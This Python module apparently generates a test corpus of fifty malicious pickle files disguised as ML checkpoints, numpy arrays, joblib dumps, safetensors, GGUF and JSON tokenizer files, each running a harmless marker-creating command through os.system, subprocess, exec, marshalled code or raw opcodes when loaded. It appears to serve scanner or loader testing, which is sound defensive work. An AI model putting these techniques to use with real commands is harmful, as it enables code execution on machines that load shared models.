"""Fifty files that run code when they are unpickled, in the formats in which models, arrays and checkpoints travel."""

import base64
import collections
import functools
import gzip
import importlib
import io
import json
import lzma
import marshal
import operator
import os
import pathlib
import pickle
import shutil
import struct
import subprocess
import tarfile
import timeit
import types
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import torch


@dataclass(frozen=True)
class Payload:
    """A file, and how a program that trusts it would load it."""

    name: str
    data: bytes
    trust: Callable[[bytes], Any]


class Call:
    """Unpickled as the result of a call."""

    def __init__(self, function: Any, *arguments: Any):
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> Any:
        return self.function, self.arguments

    def __call__(self) -> None:
        """Only so that the pickler accepts a call of the result of another one."""


class CallLater:
    """Calls by the protocol that builds an object from its state: an attribute, items of a list, or items of a dict."""

    def __init__(self, way: str, call: Call):
        self.way, self.call = way, call

    def __reduce__(self) -> Any:
        if self.way == "state":
            return types.SimpleNamespace, (), {"x": self.call}
        if self.way == "items":
            return list, (), None, iter([self.call])
        return collections.OrderedDict, (), None, None, iter([("weight", self.call)])


def calls(marker: Path) -> dict[str, Call | CallLater]:
    """Calls that create the marker."""
    path, code = str(marker), f"open({str(marker)!r}, 'w').close()"
    compiled = marshal.dumps(compile(code, "payload", "exec"))
    make_function = Call(getattr, Call(importlib.import_module, "types"), "FunctionType")
    names = Call(getattr, Call(importlib.import_module, "builtins"), "__dict__")
    function = Call(make_function, Call(marshal.loads, compiled), names)
    touch = Call(operator.methodcaller, "touch")
    return {
        "os.system": Call(os.system, f"touch {path}"),
        "os.mkdir": Call(os.mkdir, path),
        "os.symlink": Call(os.symlink, "/", path),
        "subprocess.run": Call(subprocess.run, ["touch", path]),
        "subprocess.Popen": Call(subprocess.Popen, ["touch", path]),
        "subprocess.check_output": Call(subprocess.check_output, ["touch", path]),
        "builtins.exec": Call(exec, code),
        "builtins.eval": Call(eval, code),
        "builtins.open": Call(open, path, "w"),
        "shutil.copyfile": Call(shutil.copyfile, "/dev/null", path),
        "timeit": Call(timeit.timeit, code, "pass", timeit.default_timer, 1),
        "getattr": Call(Call(getattr, Call(importlib.import_module, "os"), "mkdir"), path),
        "partial": Call(functools.partial(os.mkdir, path)),
        "methodcaller": Call(touch, pathlib.Path(path)),
        "marshalled code": Call(function),
        "nested pickle": Call(pickle.loads, pickle.dumps(Call(os.mkdir, path))),
        "map": Call(list, Call(map, os.mkdir, [path])),
        "state": CallLater("state", Call(os.mkdir, path)),
        "list items": CallLater("items", Call(os.mkdir, path)),
        "dict items": CallLater("dict", Call(os.mkdir, path)),
    }


def opcodes(marker: Path) -> dict[str, bytes]:
    """Pickles that no pickler writes."""
    path = str(marker).encode()
    return {
        "opcode INST": b"(S'" + path + b"'\nios\nmkdir\n.",
        "opcode OBJ": b"(cos\nmkdir\nS'" + path + b"'\no.",
        "opcode GLOBAL": b"cposix\nmkdir\n(S'" + path + b"'\ntR.",
        "opcode STACK_GLOBAL": b"\x80\x04\x8c\x05posix\x8c\x05mkdir\x93\x8c" + bytes([len(path)]) + path + b"\x85R.",
        "two pickles": pickle.dumps({"weight": 1}) + pickle.dumps(Call(os.mkdir, str(marker))),
    }


def trust_pickles(data: bytes) -> None:
    """Load all pickles of a file."""
    stream = io.BytesIO(data)
    while stream.tell() < len(data):
        pickle.load(stream)


def make_payloads(marker: Path) -> list[Payload]:
    made = calls(marker)
    payloads = [
        Payload(f"{name}, protocol {number % 6}", pickle.dumps(call, protocol=number % 6), trust_pickles)
        for number, (name, call) in enumerate(made.items())
    ]
    payloads += [Payload(name, data, trust_pickles) for name, data in opcodes(marker).items()]
    call = made["os.mkdir"]
    state = {"model_state_dict": {"base.encoder.weight": call}, "wte.weight": torch.zeros(2, 2), "epoch": 3}
    optimizer = {"state": {0: {"exp_avg": call}}, "param_groups": [{"lr": 0.1, "params": [0]}]}
    checkpoint = {"args": types.SimpleNamespace(x=call), "model": {"weight": torch.zeros(2)}}
    for name, value in {"state dict": state, "optimizer": optimizer, "lightning": checkpoint, "bare": call}.items():
        payloads.append(Payload(f"torch.save, {name}", torch_file(value), trust_torch))
        payloads.append(Payload(f"legacy torch.save, {name}", torch_file(value, zipped=False), trust_torch))
    array = np.array([call, 1], dtype=object)
    plain = pickle.dumps({"state_dict": call}, protocol=4)
    payloads += [
        Payload("torch tar of 2016", torch_tar(call), lambda data: trust_pickles(tar_member(data, "pickle"))),
        Payload("npy of objects", npy(array), lambda data: np.load(io.BytesIO(data), allow_pickle=True)),
        Payload("npz of objects", npz(array), lambda data: np.load(io.BytesIO(data), allow_pickle=True)["a"]),
        Payload("pickled array", array.dumps(), trust_pickles),
        Payload("joblib", joblib_file({"vocabulary": call}), trust_joblib),
        Payload("compressed joblib", joblib_file({"vocabulary": call}, compress=3), trust_joblib),
        Payload("gzip", gzip.compress(plain), lambda data: trust_pickles(gzip.decompress(data))),
        Payload("xz", lzma.compress(plain), lambda data: trust_pickles(lzma.decompress(data))),
        Payload("zlib", zlib.compress(plain), lambda data: trust_pickles(zlib.decompress(data))),
        Payload("metadata of a DCP checkpoint", pickle.dumps({"state_dict_metadata": call}), trust_pickles),
        Payload("safetensors with a pickled body", hidden(plain), lambda data: trust_pickles(data[-len(plain) :])),
        Payload("safetensors metadata", hidden_metadata(plain), trust_metadata),
        Payload("zip with data.pkl", zip_file("archive/data.pkl", plain), trust_zip("archive/data.pkl")),
        Payload("zip with tokenizer.pkl", zip_file("tokenizer.pkl", plain), trust_zip("tokenizer.pkl")),
        Payload("GGUF magic", b"GGUF" + struct.pack("<I", 3) + plain, lambda data: trust_pickles(data[8:])),
        Payload("JSON with base64", json_file(plain), trust_json),
        Payload("text after a pickle", plain + b"\n{}\n", lambda data: pickle.loads(data)),
    ]
    return payloads


def torch_file(value: Any, *, zipped: bool = True) -> bytes:
    stream = io.BytesIO()
    torch.save(value, stream, _use_new_zipfile_serialization=zipped)
    return stream.getvalue()


def trust_torch(data: bytes) -> None:
    torch.load(io.BytesIO(data), weights_only=False)


def torch_tar(call: Any) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as tar:
        for name, value in (("sys_info", {}), ("pickle", {"weight": call}), ("tensors", 0), ("storages", 0)):
            data = pickle.dumps(value, protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    return stream.getvalue()


def tar_member(data: bytes, name: str) -> bytes:
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        member = tar.extractfile(name)
        assert member is not None
        return member.read()


def npy(array: np.ndarray) -> bytes:
    stream = io.BytesIO()
    np.save(stream, array, allow_pickle=True)
    return stream.getvalue()


def npz(array: np.ndarray) -> bytes:
    stream = io.BytesIO()
    np.savez(stream, a=array)
    return stream.getvalue()


def joblib_file(value: Any, **options: Any) -> bytes:
    import joblib

    stream = io.BytesIO()
    joblib.dump(value, stream, **options)
    return stream.getvalue()


def trust_joblib(data: bytes) -> None:
    import joblib

    joblib.load(io.BytesIO(data))


def hidden(pickled: bytes) -> bytes:
    """A valid safetensors file of bytes that are a pickle."""
    header = {"weight": {"dtype": "U8", "shape": [len(pickled)], "data_offsets": [0, len(pickled)]}}
    return safetensors_file(header, pickled)


def hidden_metadata(pickled: bytes) -> bytes:
    header = {"__metadata__": {"lora": base64.b64encode(pickled).decode()}}
    return safetensors_file(header | {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4))


def safetensors_file(header: dict[str, Any], body: bytes) -> bytes:
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + body


def trust_metadata(data: bytes) -> None:
    (length,) = struct.unpack("<Q", data[:8])
    trust_pickles(base64.b64decode(json.loads(data[8 : 8 + length])["__metadata__"]["lora"]))


def zip_file(name: str, data: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(name, data)
    return stream.getvalue()


def trust_zip(name: str) -> Callable[[bytes], None]:
    return lambda data: trust_pickles(zipfile.ZipFile(io.BytesIO(data)).read(name))


def trust_json(data: bytes) -> None:
    trust_pickles(base64.b64decode(json.loads(data)["model"]))


def json_file(pickled: bytes) -> bytes:
    value = {"format": "headstock-sentencepiece-1", "kind": "lab", "roles": {"unknown": 0}, "pieces": ["<unk>"]}
    return json.dumps(value | {"model": base64.b64encode(pickled).decode()}).encode()
